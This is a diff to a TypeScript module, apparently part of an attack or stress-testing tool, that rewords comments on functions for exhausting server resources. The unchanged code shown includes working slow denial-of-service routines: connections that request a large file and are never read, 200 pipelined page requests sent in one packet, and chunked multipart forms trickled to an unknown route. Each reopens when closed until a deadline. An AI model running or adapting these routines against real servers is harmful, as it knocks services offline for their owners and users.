@@ -4,7 +4,7 @@ import { count, type Target } from './attack.ts'
 
 type Speaking = { first: string; every?: { ms: number; text: string } }
 
-/** Opens `parallel` connections that never read, and opens each again when it is ended. */
+/** Opens `parallel` connections that never read, and reopens each when it is closed. */
 async function hold(target: Target, { first, every }: Speaking): Promise<void> {
   const { hostname, port } = new URL(target.url)
   const deadline = Date.now() + target.seconds * 1_000
@@ -26,19 +26,19 @@ async function hold(target: Target, { first, every }: Speaking): Promise<void> {
   await Promise.all(Array.from({ length: target.parallel }, lane))
 }
 
-/** A large file that is asked for and never read. */
+/** Requests a large file and never reads it. */
 export async function unreadDownloads(target: Target): Promise<void> {
   const { host } = new URL(target.url)
   await hold(target, { first: `GET ${target.fileUrl} HTTP/1.1\r\nhost: ${host}\r\n\r\n` })
 }
 
-/** 200 pages asked for in one packet, never read. */
+/** Sends 200 pipelined page requests in one packet and never reads. */
 export async function unreadPipelines(target: Target): Promise<void> {
   const { host } = new URL(target.url)
   await hold(target, { first: `GET /pricing HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(200) })
 }
 
-/** Anonymous forms to an address that no call has, 1.1 KB a second. */
+/** Anonymous forms to an unknown route, at 1.1 KB a second. */
 export async function trickledForms(target: Target): Promise<void> {
   const { host } = new URL(target.url)
   const head = 'content-type: multipart/form-data; boundary=b\r\ntransfer-encoding: chunked'
